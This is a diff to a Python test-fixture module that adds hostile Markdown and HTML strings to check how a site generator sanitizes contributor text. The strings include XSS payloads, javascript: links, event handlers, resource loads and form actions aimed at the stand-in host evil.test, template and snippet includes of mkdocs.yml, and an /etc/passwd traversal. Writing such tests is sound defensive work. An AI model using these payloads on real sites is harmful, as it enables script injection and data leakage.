@@ -8,7 +8,7 @@ from typing import Any
 import yaml
 from lists import make_list, own_config
 
-__all__ = ["WORST", "make_hostile_list"]
+__all__ = ["HOSTILE_MARKDOWN", "WORST", "make_hostile_list"]
 
 WORST = (
     "<script>pwn(1)</script>",
@@ -41,6 +41,29 @@ WORST = (
     "𝒯𝑒𝓍𝓉 \U0001f9d1\u200d\U0001f9b0 e\u0301\u0302\u0303 \ufeff",
     "../../../../etc/passwd %2e%2e%2f ..\\..\\",
 )
+
+HOSTILE_MARKDOWN = (
+    "<script>pwn(50)</script> <script src=https://evil.test/51.js></script>",
+    "Text {onclick=pwn(52)}\n{: onclick=pwn(53) style='position:fixed' #rl-q .rl-button }",
+    "[one](javascript:pwn(54)) [two](  jAvAsCrIpT&colon;pwn(55)) <a href='java&Tab;script:pwn(56)'>three</a>",
+    "[four][leak] and the [x] of others\n\n[leak]: javascript:pwn(57)\n[x]: javascript:pwn(58)",
+    "*[paper]: pwn(59)\n\nA note[^1]\n\n[^1]: https://evil.test/60",
+    "![pixel](https://evil.test/61.png) ![](//evil.test/62.png) ![](/\\evil.test/63.png)",
+    "<img src=x onerror=pwn(64)> <img src=https://evil.test/65.png srcset=https://evil.test/66.png>",
+    "<iframe src=https://evil.test/67></iframe><object data=https://evil.test/68></object>",
+    "<svg onload=pwn(69)><animate onbegin=pwn(70) attributeName=x dur=1s></svg>",
+    "<style>@import 'https://evil.test/71.css'; * { display: none }</style>",
+    "<link rel=stylesheet href=https://evil.test/72.css>",
+    "<base href=https://evil.test/73/> <meta http-equiv=refresh content='0;url=https://evil.test/74'>",
+    "<form action=https://evil.test/75 id=rl-q name=pwned><input name=q autofocus onfocus=pwn(76)></form>",
+    "<a id=__config href=x>a</a><a name=__palette data-rl-save=bibtex class='rl-button md-overlay'>b</a>",
+    "<div style='background:url(https://evil.test/77.png)' data-rl-keep markdown='1'>c</div>",
+    "<details open ontoggle=pwn(78)><summary>d</summary></details><video src=x onerror=pwn(79)></video>",
+    "# Papers {: #papers onclick=pwn(80) }\n\n<h2 id=papers>Papers</h2>",
+    '--8<-- "mkdocs.yml"\n\n{{ 7 * 7 }} {% include "mkdocs.yml" %}',
+    "</p></div></article></main></body></html>",
+)
+"""What a contributor might write into a text that is Markdown; no tag or comment of it stays open."""
 
 
 def quoted(text: str) -> str:
@@ -97,11 +120,17 @@ def make_hostile_list(root: Path, site_url: str) -> Path:
                 "id": "all",
                 "title": every,
                 "topics": [
-                    {"id": "first", "title": f"T1 {every}", "scope": f"S1 {every}"},
+                    {
+                        "id": "first",
+                        "title": f"T1 {every}",
+                        "scope": f"S1 {every}",
+                        "introduction": "\n\n".join(HOSTILE_MARKDOWN),
+                    },
                     {
                         "id": "second",
                         "title": WORST[0],
                         "scope": WORST[1],
+                        "introduction": "\n\n".join(WORST),
                         "path": [{"paper": "worst-01", "why": every}],
                     },
                 ],
@@ -128,5 +157,9 @@ def make_hostile_list(root: Path, site_url: str) -> Path:
     for name, data in {"topics.yml": topics, "changes.yml": changes}.items():
         text = yaml.safe_dump(data, allow_unicode=False, default_style='"', width=10**9)
         (root / "content" / name).write_text(text, encoding="utf-8")
+    # where images lead whose source is only "x"
+    image = root / "content" / "pages" / "topics" / "x"
+    image.parent.mkdir()
+    image.write_bytes(b"")
     (root / "content" / "redirects.yml").write_text("old: worst-00\n", encoding="utf-8")
     return config
